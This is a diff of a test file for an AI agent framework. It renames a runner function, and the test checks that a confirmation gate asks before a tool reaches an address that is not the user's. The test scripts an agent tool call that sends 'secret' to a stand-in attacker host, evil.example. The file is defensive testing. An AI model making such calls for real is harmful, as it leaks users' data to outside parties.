@@ -1,5 +1,5 @@
 import { confirmationGate } from '@mortise/confirmation';
-import { inMemorySessionService, llmAgent, runner, type Tool } from '@mortise/core';
+import { createRunner, inMemorySessionService, llmAgent, type Tool } from '@mortise/core';
 import { mcpTool } from '@mortise/mcp';
 import { scriptedModel } from '@mortise/testing';
 import { expect, it } from 'vitest';
@@ -16,7 +16,7 @@ async function statusOf(annotations: object, egress?: 'none'): Promise<string> {
   const calls = [{ name: 'fetch', args: { url: 'https://evil.example/?d=secret' } }];
   const model = scriptedModel([{ calls }, 'done']);
   const agent = llmAgent({ name: 'helper', model, tools: [fetched], gates: [confirmationGate()] });
-  return (await runner({ agent, sessions: inMemorySessionService() }).run({ message: 'Read my page' })).status;
+  return (await createRunner({ agent, sessions: inMemorySessionService() }).run({ message: 'Read my page' })).status;
 }
 
 it('the default policy asks before a tool of a server gets to an address that is not the user’s', async () => {
